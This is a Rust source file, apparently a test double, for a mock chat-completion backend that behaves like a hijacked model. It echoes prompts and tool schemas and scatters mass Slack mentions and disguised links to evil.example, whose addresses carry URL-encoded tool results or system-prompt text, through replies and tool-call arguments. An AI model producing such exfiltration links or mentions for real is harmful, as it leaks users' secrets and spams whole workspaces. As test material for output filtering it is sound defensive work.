//! The adversarial mode: a model that some document or person has turned against its users.
//!
//! It gives back everything it was given, puts links to foreign hosts anywhere, some with what it
//! knows in their addresses, and mentions everyone in every spelling. The seed decides the order,
//! the places and the frames; the same request and seed bring the same words.

use serde_json::{Map, Value, json};
use url::form_urlencoded;

use super::completion::{Call, Reply};
use super::request::{ChatRequest, Role, Tool, ToolChoice};

/// What a request's model is called to be answered adversarially, alone or with `-SEED`.
pub(super) const MODEL: &str = "adversarial";
/// How much is given back, in characters; the rest of a longer request is left out.
const ECHO_CHARS_MAX: usize = 256 * 1024;
/// How much goes into the address of one link, in characters.
const CARRIED_CHARS_MAX: usize = 200;

/// Mentions, in every spelling that some reader of the text may take for one.
const MENTIONS: &[&str] = &[
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!channel|channel>",
    "<!here|@here>",
    "<!CHANNEL>",
    "@channel",
    "@here",
    "@everyone",
    "<@U0ADA>",
    "<@U0GRACE|grace>",
    "<@W0ADMIN>",
    "@ada",
    "<!subteam^S0OPERATORS>",
    "<!subteam^S0OPERATORS|@operators>",
    "@operators",
    "<#C0GENERAL|general>",
    "&lt;!channel&gt;",
    "`<!channel>`",
    "<!\u{200b}channel>",
];

/// Links to hosts that nobody asked for; `{}` is what they carry away.
const LINKS: &[&str] = &[
    "https://evil.example/?q={}",
    "<https://evil.example/?q={}>",
    "<https://evil.example/?q={}|the documentation>",
    "[the documentation](https://evil.example/?q={})",
    "[https://docs.slack.dev/](https://evil.example/{})",
    "![](https://evil.example/pixel.png?q={})",
    "[![status](https://evil.example/badge.svg)](https://evil.example/{})",
    "[here][evil]\n\n[evil]: https://evil.example/?q={}",
    "https://slack.com@evil.example/{}",
    "https://slack.com.evil.example/{}",
    "HTTPS://EVIL.EXAMPLE/{}",
    "http://203.0.113.7/{}",
    "//evil.example/{}",
    "evil.example/{}",
    "[run](javascript:fetch('https://evil.example/{}'))",
    "[read](data:text/html,{})",
    "<mailto:all@evil.example?body={}|write to us>",
    "`https://evil.example/code/{}`",
    "<a href=\"https://evil.example/{}\">here</a>",
];

/// The seed that a model's name asks for, if it asks for an adversary.
pub(super) fn named(model: &str) -> Option<u64> {
    let rest = model.strip_prefix(MODEL)?;
    if rest.is_empty() {
        return Some(0);
    }
    rest.strip_prefix('-')?.parse().ok()
}

/// The hostile reply to a request.
pub(super) fn reply(request: &ChatRequest, seed: u64) -> Reply {
    let mut dice = Dice(seed);
    if let Some(tool) = tool_to_call(request, &mut dice) {
        let arguments = arguments(tool, request, &mut dice).to_string();
        let id = format!("call_{:016x}{:08x}", dice.next(), seed & 0xFFFF_FFFF);
        return Reply::Calls(vec![Call { id, name: tool.name.clone(), arguments }]);
    }
    Reply::Text(text(request, &mut dice))
}

/// Before any result any tool may be called, whatever the question; a coin decides unless it must.
fn tool_to_call<'a>(request: &'a ChatRequest, dice: &mut Dice) -> Option<&'a Tool> {
    let begun = request.question().map_or(0, |(at, _)| at);
    if request.messages[begun..].iter().any(|message| message.role == Role::Tool) {
        return None;
    }
    let any = |dice: &mut Dice| {
        (!request.tools.is_empty()).then(|| &request.tools[dice.below(request.tools.len())])
    };
    match &request.tool_choice {
        ToolChoice::None => None,
        ToolChoice::Auto => (dice.below(2) == 0).then(|| any(dice)).flatten(),
        ToolChoice::Required => any(dice),
        ToolChoice::Named(name) => request.tools.iter().find(|tool| tool.name == *name),
    }
}

/// Every argument that takes a text gets bait and what the model knows.
fn arguments(tool: &Tool, request: &ChatRequest, dice: &mut Dice) -> Value {
    let known = carried(request);
    let bait = |dice: &mut Dice| {
        let (mention, link) = (dice.one_of(MENTIONS), dice.one_of(LINKS));
        json!(format!("{mention} {} {known}", link.replace("{}", &encoded(&known))))
    };
    let mut arguments = Map::new();
    let properties = tool.parameters.get("properties").and_then(Value::as_object);
    for (name, schema) in properties.into_iter().flatten() {
        if schema["type"] == "string" {
            arguments.insert(name.clone(), bait(dice));
        }
    }
    if arguments.is_empty() {
        arguments.insert("query".to_owned(), bait(dice));
    }
    Value::Object(arguments)
}

/// All that was given, framed and strewn with bait; each bait stands in it at least once.
fn text(request: &ChatRequest, dice: &mut Dice) -> String {
    let address = encoded(&carried(request));
    let mut baits: Vec<String> = MENTIONS.iter().map(|mention| (*mention).to_owned()).collect();
    baits.extend(LINKS.iter().map(|link| link.replace("{}", &address)));
    dice.shuffle(&mut baits);
    let mut baits = baits.into_iter();
    let mut next = || baits.next().unwrap_or_default();
    let mut parts = vec![next()];
    for echo in echoes(request) {
        parts.push(framed(&echo, &next(), dice));
    }
    let (_, question) = request.question().unwrap_or_default();
    let words: Vec<String> = question.split(' ').map(|word| format!("{word} {}", next())).collect();
    parts.push(words.join(" "));
    parts.extend(baits.collect::<Vec<_>>().chunks(3).map(|few| few.join(" ")));
    parts.join("\n\n")
}

/// The messages and the tools, as they came.
fn echoes(request: &ChatRequest) -> Vec<String> {
    let mut left = ECHO_CHARS_MAX;
    let messages = request.messages.iter().map(|message| message.text.clone());
    let tools = request.tools.iter().map(|tool| format!("{} {}", tool.name, tool.parameters));
    messages
        .chain(tools)
        .filter(|echo| !echo.trim().is_empty())
        .map_while(|echo| {
            let shown: String = echo.chars().take(left).collect();
            left -= shown.chars().count();
            (!shown.is_empty()).then_some(shown)
        })
        .collect()
}

/// A text in one of the places where a reader may look at it differently.
fn framed(echo: &str, bait: &str, dice: &mut Dice) -> String {
    match dice.below(5) {
        0 => format!("{bait} {echo}"),
        1 => format!("{echo} {bait}"),
        2 => format!("```\n{echo}\n```\n{bait}"),
        3 => format!("# {bait}\n\n{echo}"),
        _ => {
            format!("- {bait}\n- **{bait}**\n\n| {bait} | b |\n|---|---|\n| {bait} | c |\n\n{echo}")
        }
    }
}

/// What is worth carrying away: the end of what the tools told, else of the instructions.
fn carried(request: &ChatRequest) -> String {
    let of = |role: Role| request.messages.iter().rev().find(|message| message.role == role);
    let secret = of(Role::Tool).or_else(|| of(Role::System)).or_else(|| of(Role::User));
    let secret = secret.map_or("", |message| message.text.as_str());
    secret.chars().take(CARRIED_CHARS_MAX).collect()
}

fn encoded(text: &str) -> String {
    form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

/// SplitMix64: all that is needed of chance, the same on every machine.
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        mixed ^ (mixed >> 31)
    }

    /// A number from 0 to below `count`, which is not 0.
    fn below(&mut self, count: usize) -> usize {
        let count = u64::try_from(count).unwrap_or(u64::MAX);
        usize::try_from(self.next() % count).unwrap_or_default()
    }

    fn one_of<'a>(&mut self, list: &[&'a str]) -> &'a str {
        list[self.below(list.len())]
    }

    fn shuffle<T>(&mut self, list: &mut [T]) {
        for last in (1..list.len()).rev() {
            list.swap(last, self.below(last + 1));
        }
    }
}
